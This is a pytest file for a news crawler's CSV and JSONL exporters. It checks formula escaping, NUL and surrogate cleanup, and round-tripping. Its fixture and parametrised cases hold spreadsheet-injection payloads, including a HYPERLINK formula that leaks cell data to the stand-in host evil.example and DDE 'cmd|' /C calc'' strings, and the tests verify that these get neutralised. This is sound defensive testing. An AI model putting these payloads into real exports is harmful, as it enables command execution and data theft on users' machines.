"""Exports are safe: JSONL sanitised (lone surrogates, NUL), CSV formulas neutralised, round-trips."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scrapy.utils.misc import build_from_crawler
from scrapy.utils.test import get_crawler

from newsspider.exporters import (
    CsvItemExporter,
    JsonLinesItemExporter,
    clean_text,
    escape_formula,
    is_formula,
    read_complete_lines,
    unescape_formula,
)
from newsspider.items import Article

HOSTILE = Article(
    url="https://news.example.com/a",
    site="demo",
    title='=HYPERLINK("http://evil.example/?"&A1, "click")',
    authors=["@SUM(1+1)", "Jane\x00 Doe"],
    body="Lone \ud800 surrogate and NUL\x00 inside.\n\n- 5 degrees tonight, \"cold\", with a comma.",
    description="+cmd|' /C calc'!A0",
    section="-2+3+cmd|' /C calc'!A0",
    tags=["\tTabbed", "\rReturn", "- 5 degrees", "-5", "+44 20 7946 0000"],
)


def export(exporter_cls: type, items: list[Any], **kwargs: Any) -> bytes:
    buffer = io.BytesIO()
    exporter = exporter_cls(buffer, **kwargs)
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    return buffer.getvalue()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ('-HYPERLINK("x")', True),
        ("- 5 degrees", False),
        ("-5", False),
        ("+44 20 7946 0000", False),
        ("Plain text = fine", False),
        ("", False),
    ],
)
def test_formula_rule(cell: str, escaped: bool) -> None:
    assert is_formula(cell) is escaped
    assert escape_formula(cell) == ("'" + cell if escaped else cell)


def test_csv_neutralises_formulas_and_keeps_ordinary_text() -> None:
    [row] = csv_rows(export(CsvItemExporter, [HOSTILE]))
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["description"] == "'+cmd|' /C calc'!A0"
    assert row["section"].startswith("'-2+3")
    assert row["authors"] == "'@SUM(1+1); Jane Doe"
    assert row["tags"] == "'\tTabbed; \rReturn; - 5 degrees; -5; +44 20 7946 0000"  # the joined cell starts with a tab
    assert row["body"].endswith('- 5 degrees tonight, "cold", with a comma.')
    assert "\x00" not in row["body"]


def test_csv_escaping_can_be_turned_off() -> None:
    [row] = csv_rows(export(CsvItemExporter, [HOSTILE], escape_formulas=False))
    assert row["title"].startswith("=HYPERLINK(")


def test_csv_setting_reaches_feed_exporter() -> None:
    crawler = get_crawler(settings_dict={"NEWSSPIDER_CSV_ESCAPE_FORMULAS": False})
    exporter = build_from_crawler(CsvItemExporter, crawler, io.BytesIO())
    assert exporter.escape_formulas is False
    assert build_from_crawler(CsvItemExporter, get_crawler(), io.BytesIO()).escape_formulas is True


def test_jsonl_lines_are_valid_utf8_json_without_nul_or_surrogates() -> None:
    data = export(JsonLinesItemExporter, [HOSTILE, HOSTILE], encoding="utf-8")
    lines = data.decode("utf-8").splitlines()
    assert len(lines) == 2
    record = json.loads(lines[0])
    assert record["body"].startswith("Lone  surrogate and NUL inside.")
    assert record["authors"] == ["@SUM(1+1)", "Jane Doe"]
    assert record["title"] == HOSTILE.title  # JSON is not a spreadsheet: no escaping


def test_reader_of_killed_crawl_gets_every_complete_line(tmp_path: Path) -> None:
    data = export(JsonLinesItemExporter, [HOSTILE] * 3, encoding="utf-8")
    path = tmp_path / "killed.jsonl"
    path.write_bytes(data[: len(data) - 40])  # the process died in the middle of the third line
    assert len(list(read_complete_lines(path))) == 2


@settings(deadline=None)  # the first examples import and warm up: no per-example time limit
@given(st.text())
def test_escape_round_trips(cell: str) -> None:
    assert unescape_formula(escape_formula(cell)) == cell
    assert not is_formula(escape_formula(cell))


@settings(deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4), st.text(), st.text())
def test_csv_round_trips_through_python_csv(tags: list[str], title: str, body: str) -> None:
    article = Article(url="https://e.example/x", site="demo", title=title, body=body, tags=tags)
    [row] = csv_rows(export(CsvItemExporter, [article]))
    assert unescape_formula(row["title"]) == clean_text(title)
    assert unescape_formula(row["body"]) == clean_text(body)


@settings(deadline=None)
@given(st.text(), st.lists(st.text(), max_size=3))
def test_jsonl_round_trips(body: str, authors: list[str]) -> None:
    article = Article(url="https://e.example/x", site="demo", title="t", body=body, authors=authors)
    data = export(JsonLinesItemExporter, [article], encoding="utf-8")
    assert data.count(b"\n") == 1 and data.endswith(b"\n")
    record = json.loads(data.decode("utf-8"))
    assert record["body"] == clean_text(body)
    assert record["authors"] == [clean_text(a) for a in authors]
